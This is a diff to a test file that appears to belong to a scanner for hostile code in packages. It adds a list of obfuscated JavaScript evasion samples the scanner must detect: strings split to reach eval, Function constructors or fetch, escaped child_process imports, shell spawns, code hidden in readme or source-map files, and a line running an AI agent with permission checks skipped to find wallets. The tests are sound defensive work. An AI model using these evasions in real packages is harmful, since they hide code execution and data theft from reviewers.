@@ -127,7 +127,40 @@ const blobs: readonly Evasion[] = [
   ],
 ]
 
-const evasions: readonly Evasion[] = [...split, ...concatenation, ...constructed, ...variable, ...tests, ...blobs]
+/** Names that stand in no word of the script: a list of words that call for a closer look would pass each of these. */
+const wordless: readonly Evasion[] = [
+  ['a constructor out of two names', "const c = 'con', s = 'structor'; [].at[c + s]('return 1')()"],
+  ['a prototype’s constructor out of a list', "const k = ['con', 'structor']; (async () => {}).__proto__[k[0] + k[1]]('return 1')()"],
+  ['a global out of two names', "const a = 'fe', b = 'tch'; this[a + b]('https://x.invalid')"],
+  ['a pattern with a computed key', "const { ['constr' + 'uctor']: F } = () => {}; F('return 1')()"],
+  ['a tagged template', '[].at.constructor`return 1```'],
+  ['Reflect.get', "Reflect.get(globalThis, 'ev' + 'al')('1')"],
+  ['a name over two lines', "import x from 'child_\\\nprocess'; x.exec('id')"],
+  ['a name in escapes', "import x from 'child_\\x70rocess'; x.exec('id')"],
+  ['an import behind a comment', "import x from/**/'http2'; x.connect('https://x.invalid')"],
+  ['letters that are computed', "let s = ''; for (const n of [100, 105, 106]) s += String.fromCharCode(n - 1); require(s).exec('id')"],
+  [
+    'a member that is sought',
+    "const o = []; for (const k of Object.getOwnPropertyNames(Object.prototype)) if (k.length === 11) o[k][k]('return 1')()",
+  ],
+  [
+    'a global that is sought',
+    "const f = Object.getOwnPropertyNames(globalThis).find((n) => n[4] === 'h'); globalThis[f]('https://x.invalid/' + t)",
+  ],
+  ['a list of modules', "['child_process'].map(require)[0].exec('id')"],
+  [
+    'a worker of a text',
+    "const { Worker } = require('worker_threads'); new Worker(require('./d.json').c, { eval: true })",
+    { 'd.json': '{"c":"1"}' },
+  ],
+  ['the inside of Node', "process.binding('spawn_sync').spawn({ file: '/bin/sh' })"],
+  ['code in a text for people', "require('./readme.md')", { 'readme.md': "require('child_process').exec('id')" }],
+  ['code in a source map', "require('./index.js.map')", { 'index.js.map': "require('child_process').exec('id')" }],
+  ['code in types', "require('./types.d.ts')", { 'types.d.ts': "require('child_process').exec('id')" }],
+  ['an assistant that asks nobody', `require('child_process').exec('claude --dangerously-skip-permissions -p "find wallets"')`],
+]
+
+const evasions: readonly Evasion[] = [...wordless, ...split, ...concatenation, ...constructed, ...variable, ...tests, ...blobs]
 
 test.each(evasions.map(([name, line, more]) => ({ name, line, more })))('sees $name', async ({ line, more = {} }) => {
   const before = { 'package.json': manifest(), 'index.js': code, 'test/net.js': "require('https'); require('child_process')" }
